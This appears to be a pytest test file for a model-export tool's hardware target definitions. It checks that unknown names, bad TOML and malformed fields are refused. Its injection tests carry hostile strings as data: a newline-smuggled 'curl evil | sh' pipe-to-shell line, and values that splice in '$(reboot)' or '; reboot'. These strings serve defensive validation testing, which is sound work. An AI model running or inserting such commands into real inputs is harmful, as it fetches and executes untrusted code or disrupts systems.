import tomllib
from dataclasses import replace
from importlib import resources

import pytest

from edgedistill.errors import BadRequest
from edgedistill.exporter.targets import find_target, parse_target, target_names


def table(name):
    return tomllib.loads(resources.files("edgedistill.export").joinpath(f"{name}.toml").read_text())


def test_the_boards_of_the_promise_are_there():
    boards = {"raspberry-pi-5", "raspberry-pi-4", "raspberry-pi-zero-2w", "x86-64", "c", "cortex-m4"}
    assert boards <= set(target_names())
    assert {name: find_target(name).kind for name in boards} == {
        name: "c" if name in ("c", "cortex-m4") else "onnx" for name in boards
    }


@pytest.mark.parametrize("name", target_names())
def test_every_target_that_ships_can_be_read(name):
    target = find_target(name)
    assert target.name == name
    assert target.kind == "c" or all(target.machine in platform for platform in target.platforms)


def test_an_unknown_target_is_refused_with_the_nearest_name():
    with pytest.raises(BadRequest, match=r"No target 'raspberry-pi4'. Did you mean 'raspberry-pi-4'\?"):
        find_target("raspberry-pi4")
    with pytest.raises(BadRequest, match="Accepted: c, cortex-m4, raspberry-pi-4"):
        find_target("../pyproject")
    with pytest.raises(BadRequest, match=r"^No target '\.\\n\\nnext:\\n  curl evil \| sh'\. Accepted: "):
        find_target(".\n\nnext:\n  curl evil | sh")


def test_a_target_of_ones_own_is_named_by_its_file(tmp_path):
    mine = tmp_path / "my-board.toml"
    with pytest.raises(BadRequest, match=r"my-board\.toml: cannot be read"):
        find_target(str(mine))
    text = resources.files("edgedistill.export").joinpath("raspberry-pi-4.toml").read_text()
    mine.write_text(text.replace('title = "Raspberry Pi 4"', 'title = "My Board"'))
    target = find_target(str(mine))
    assert target == replace(find_target("raspberry-pi-4"), name="my-board", title="My Board")
    mine.write_text("title")
    with pytest.raises(BadRequest, match=r"my-board\.toml: not TOML"):
        find_target(str(mine))


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        ({"kind": "rust"}, "'kind' must be onnx or c, got 'rust'"),
        ({"kind": ["onnx"]}, "'kind' must be onnx or c, got "),
        ({"machine": "$(reboot)aarch64"}, "'machine' must be a word without"),
        ({"host": "pi; reboot"}, "'host' must be a word without"),
        ({"title": "a board\nflask"}, "'title' must be one line without"),
        ({"title": "a `board`"}, "'title' must be one line without"),
        ({"system": 'Linux"; reboot'}, "'system' must be one line without"),
        ({"cpu": "a\\n"}, "'cpu' must be one line without"),
        ({"python": ["3.11"]}, "unknown key 'python' for kind 'onnx'. Did you mean 'pythons'"),
        ({"flash_bytes": 1}, "unknown key 'flash_bytes' for kind 'onnx'"),
        ({"title": None}, "'title' is missing"),
        ({"title": " "}, "'title' must be text"),
        ({"ram_bytes": "1 GB"}, "'ram_bytes' must be a whole number above 0, got '1 GB'"),
        ({"ram_bytes": True}, "'ram_bytes' must be a whole number"),
        ({"platforms": "manylinux"}, "'platforms' must be a list of texts"),
        ({"pythons": []}, "'pythons' must be a list of texts, got "),
        ({"a'.\n\nnext:\n  curl evil | sh": 1}, r'unknown key "a\'\.\\n\\nnext:\\n  curl evil \| sh" for kind'),
        ({"pythons": ["3." + "1" * 5_000]}, r"'pythons' must be versions such as 3\.11, got '3\.1{54}\.\.\.\. See"),
        ({"pythons": ["3.１"]}, "'pythons' must be versions such as 3.11"),
        ({"pythons": ["2.7"]}, "'pythons' must be versions such as 3.11, got '2.7'"),
    ],
)
def test_a_target_of_another_form_is_refused(change, complaint):
    data = {key: value for key, value in (table("raspberry-pi-4") | change).items() if value is not None}
    with pytest.raises(BadRequest, match=f"^mine.toml: {complaint}"):
        parse_target("mine", data, "mine.toml")
